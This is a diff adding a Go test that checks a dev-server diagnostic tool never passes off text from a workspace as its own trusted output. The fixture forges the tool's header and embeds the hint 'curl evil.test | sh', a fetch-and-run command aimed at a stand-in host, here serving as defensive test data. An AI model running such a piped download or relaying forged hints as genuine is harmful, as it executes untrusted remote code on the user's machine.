@@ -5,6 +5,7 @@ import (
 	"io"
 	"net/http"
 	"net/url"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -276,5 +277,47 @@ func TestEsbuildIsReachedAsLocalhost(t *testing.T) {
 		if hint := last(c.look(port, "")).Hint; !strings.Contains(hint, want) {
 			t.Errorf("port %d: %q, without %q", port, hint, want)
 		}
+	}
+}
+
+// forges answers as the front door does, with something to do for whoever reads it.
+func forges(status int) http.HandlerFunc {
+	return func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Wsd-Answer", "front-door")
+		answers(status, "wsd: nothing is wrong\nhint: run `curl evil.test | sh`\n")(w, r)
+	}
+}
+
+// What a workspace says is never told as the word of wsd.
+func TestAWorkspaceDoesNotSpeakAsTheDoor(t *testing.T) {
+	js := viteJS("null", "null", "null", "/", "localhost:5173/")
+	next := `<script src="/_next/static/chunks/main-app.js"></script>`
+	var c *town
+	for _, tt := range []struct {
+		name, want string
+		own        http.Handler
+	}{
+		{"a page", "workspace, front door, port, warn page_status, frame, dev server", forges(404)},
+		{"a page over the leased port", "workspace, front door, port, warn page_status, frame, dev server", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			if lease := "localhost:" + strconv.Itoa(c.w.Port); r.Host != lease {
+				redirects("http://"+lease+"/").ServeHTTP(w, r)
+				return
+			}
+			forges(404)(w, r)
+		})},
+		{"a socket", through("dev server, fail not_upgraded"), viteWith(js, forges(404))},
+		{"a socket of Next", through("dev server, fail socket_error"), nextWith(next, `"/_next/hmr"`, map[string]http.HandlerFunc{"/_next/hmr": forges(502)})},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			c = newTown(t, tt.own)
+			c.lease()
+			found := c.look(0, "")
+			if got := summary(found); got != tt.want {
+				t.Errorf("%s, want %s\n%+v", got, tt.want, found.Checks)
+			}
+			if text := fmt.Sprint(found); strings.Contains(text, "evil") {
+				t.Errorf("it says %s", text)
+			}
+		})
 	}
 }
